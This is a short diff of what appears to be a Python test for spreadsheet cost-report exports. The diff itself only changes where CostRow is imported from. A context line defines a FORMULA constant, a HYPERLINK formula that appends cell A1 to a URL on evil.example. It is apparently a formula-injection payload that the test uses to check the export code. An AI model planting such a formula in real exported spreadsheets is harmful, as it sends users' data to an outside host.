@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from apps.pools.models import Pool, Workload
 from apps.reports import exports
-from apps.reports.queries import CostRow
+from apps.reports.cost.rows import CostRow
 from tests.reports.test_cost_report import fleet  # noqa: F401 (a fixture)
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
